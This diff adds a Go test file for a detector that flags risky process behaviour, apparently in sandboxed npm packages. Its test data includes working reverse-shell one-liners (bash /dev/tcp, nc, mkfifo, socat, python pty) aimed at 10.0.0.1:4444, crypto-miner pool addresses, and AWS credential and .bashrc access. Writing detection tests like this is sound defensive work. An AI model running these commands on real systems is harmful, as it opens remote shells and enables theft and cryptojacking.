@@ -0,0 +1,65 @@
+package aggregate
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestDetectRiskFlags(t *testing.T) {
+	proc := newProcessSummary()
+	proc.FileAccess["/proc/self/status"] = 1
+	proc.FileAccess["/home/node/.aws/credentials"] = 1
+	proc.ExecutedCommands["/usr/bin/bash"] = 1
+	proc.ExecutedCommands["/usr/bin/ssh"] = 1
+	proc.CommandLines = map[string]int{"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": 1}
+	proc.NetworkActivity.DNSRecords["pool.supportxmr.com"] = 2
+	assert.Equal(t, []string{RiskCryptoMiner, RiskProcfsAccess, RiskReverseShell, RiskSensitiveFileAccess, RiskShellSpawned}, proc.DetectRiskFlags())
+
+	// Shells are matched by name, not substring
+	quiet := newProcessSummary()
+	quiet.ExecutedCommands["/usr/bin/ssh"] = 1
+	quiet.FileAccess["/usr/lib/node_modules/process/index.js"] = 1
+	quiet.CommandLines = map[string]int{"nc -zv example.com 443": 1}
+	assert.Empty(t, quiet.DetectRiskFlags())
+	assert.NotNil(t, quiet.DetectRiskFlags())
+
+	for _, cmdline := range []string{
+		"nc -e /bin/sh 10.0.0.1 4444",
+		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+		"socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+		`python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));pty.spawn("sh")`,
+	} {
+		p := newProcessSummary()
+		p.CommandLines = map[string]int{cmdline: 1}
+		assert.Equal(t, []string{RiskReverseShell}, p.DetectRiskFlags(), cmdline)
+	}
+
+	miner := newProcessSummary()
+	miner.CommandLines = map[string]int{"./x -o stratum+tcp://203.0.113.9:3333 -u wallet": 1}
+	assert.Equal(t, []string{RiskCryptoMiner}, miner.DetectRiskFlags())
+}
+
+func TestDedupFlagsRisks(t *testing.T) {
+	baselineProc := newProcessSummary()
+	baselineProc.FileAccess["/proc/self/status"] = 1
+	baseline := &PerProcessStats{Collection: "baseline", PerProcess: map[string]*ProcessSummary{"npm>node": baselineProc}}
+
+	node := newProcessSummary()
+	node.FileAccess["/proc/self/status"] = 1
+	node.FileWrites = map[string]int{"/root/.bashrc": 1}
+	node.FileAccess["/root/.bashrc"] = 1
+	shell := newProcessSummary()
+	shell.ExecutedCommands["/bin/sh"] = 1
+	target := &PerProcessStats{
+		Collection:   "evil",
+		PerProcess:   map[string]*ProcessSummary{"npm>node": node, "npm>node>sh": shell},
+		HTTPActivity: &HTTPActivity{Hosts: map[string]int{"xmr.nanopool.org:443": 1}},
+	}
+
+	diff := Dedup(target, baseline)
+	// procfs access is in the baseline, so only the new activity is flagged
+	assert.Equal(t, []string{RiskSensitiveFileAccess, RiskSensitiveFileWrite}, diff.PerProcess["npm>node"].RiskFlags)
+	assert.Equal(t, []string{RiskShellSpawned}, diff.PerProcess["npm>node>sh"].RiskFlags)
+	assert.Equal(t, []string{RiskCryptoMiner, RiskSensitiveFileAccess, RiskSensitiveFileWrite, RiskShellSpawned}, diff.RiskFlags)
+}